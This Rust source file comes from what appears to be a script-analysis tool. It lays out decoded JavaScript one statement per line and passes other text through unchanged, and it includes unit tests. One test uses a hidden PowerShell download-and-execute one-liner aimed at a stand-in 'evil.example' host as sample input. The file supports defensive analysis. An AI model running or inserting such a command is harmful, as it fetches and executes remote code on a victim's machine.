//! A script as a person can read it: one statement a line, indented by its braces. Nothing but white space is changed.

use super::tokens::{Kind, Tokens};

/// Longest script that is laid out anew, in bytes; a longer one is cut.
const LONGEST: usize = 64 << 10;
/// Deepest indentation.
const DEEPEST: usize = 20;

/// Lays a script out, one statement a line. Comments go; literals stay as they are. A script longer than 64 KB is cut.
#[must_use]
pub fn beautified(text: &str) -> String {
    let text = &text[..text.floor_char_boundary(LONGEST)];
    let tokens = Tokens::read(text);
    let mut layout = Layout::default();
    for at in 0..tokens.len() {
        layout.token(&tokens, at);
    }
    layout.out.trim_end().to_owned()
}

/// A decoded text as a person can read it: code laid out, all else (markup, addresses, commands) as it is, cut at 64 KB.
#[must_use]
pub fn laid_out(text: &str) -> String {
    const CODE: [&str; 8] = ["function", "=>", "var ", "let ", "const ", "return", "eval(", "document."];
    let is_code = !text.trim_start().starts_with('<') && CODE.iter().any(|word| text.contains(word));
    if is_code { beautified(text) } else { text[..text.floor_char_boundary(LONGEST)].to_owned() }
}

/// The text as it grows.
#[derive(Default)]
struct Layout {
    out: String,
    depth: usize,
    /// Open parentheses and brackets: a `;` inside of them ends no line.
    inside: usize,
    /// The next token begins a line.
    fresh: bool,
}

impl Layout {
    fn token(&mut self, tokens: &Tokens, at: usize) {
        let (raw, before) = (tokens.raw(at), tokens.before(at));
        if raw == "}" {
            self.depth = self.depth.saturating_sub(1);
            self.fresh = true;
        } else if before == "}"
            && !matches!(raw, ";" | "," | ")" | "." | "(" | "else" | "catch" | "finally" | "while" | "]")
        {
            self.fresh = true;
        }
        self.separate(tokens, at);
        self.out.push_str(raw);
        match raw {
            "(" | "[" => self.inside += 1,
            ")" | "]" => self.inside = self.inside.saturating_sub(1),
            "{" => {
                self.depth += 1;
                // A function inside of parentheses has lines of its own.
                self.inside = 0;
                self.fresh = true;
            }
            ";" if self.inside == 0 => self.fresh = true,
            _ => {}
        }
    }

    fn separate(&mut self, tokens: &Tokens, at: usize) {
        if std::mem::take(&mut self.fresh) && !self.out.is_empty() {
            self.out.push('\n');
            self.out.push_str(&"  ".repeat(self.depth.min(DEEPEST)));
        } else if needs_gap(tokens, at) {
            self.out.push(' ');
        }
    }
}

/// Whether two tokens must not touch, or read better apart.
fn needs_gap(tokens: &Tokens, at: usize) -> bool {
    let (Some(kind), Some(before)) = (tokens.kind(at), at.checked_sub(1).and_then(|at| tokens.kind(at))) else {
        return false;
    };
    let word = |kind| matches!(kind, Kind::Name | Kind::Number | Kind::Text | Kind::Pattern | Kind::Template);
    let (raw, last) = (tokens.raw(at), tokens.before(at));
    let spaced = |mark: &str| {
        matches!(mark, "=" | "==" | "===" | "!=" | "!==" | "+" | "-" | "&&" | "||" | "?" | ":" | "," | "=>" | "{")
    };
    (word(kind) && word(before))
        || (spaced(raw) && raw != ",")
        || spaced(last)
        || (matches!(last, ")" | "}") && word(kind))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_get_lines_of_their_own() {
        let text = "(function(){var a='x;y{z}';if(a){eval(a)}else{b()}for(var i=0;i<3;i++){c(i);}})();";
        let lines = [
            "(function() {",
            "  var a = 'x;y{z}';",
            "  if(a) {",
            "    eval(a)",
            "  } else {",
            "    b()",
            "  }",
            "  for(var i = 0;i<3;i++) {",
            "    c(i);",
            "  }",
            "})();",
        ];
        assert_eq!(beautified(text), lines.join("\n"));
    }

    #[test]
    fn nothing_but_white_space_is_changed() {
        let bare = |text: &str| text.split_whitespace().collect::<String>();
        for text in ["var a=1,b=2;return a+ +b", "a=>{b:1};x=/[/;]/g.test(y)", "`a${b}c`;d", "if(x)y;else z", "a--\n-b"]
        {
            assert_eq!(bare(&beautified(text)), bare(text), "{text}");
        }
        assert!(beautified(&"a;".repeat(100_000)).len() < 200_000);
    }

    #[test]
    fn what_is_no_code_stays_as_it_is() {
        for text in
            ["https://evil.example/a.js?x=1;y", "powershell -w hidden -c \"irm evil.example | iex\"", "<b>x</b>"]
        {
            assert_eq!(laid_out(text), text);
        }
        assert_eq!(laid_out("var a=1;b()"), beautified("var a=1;b()"));
    }
}
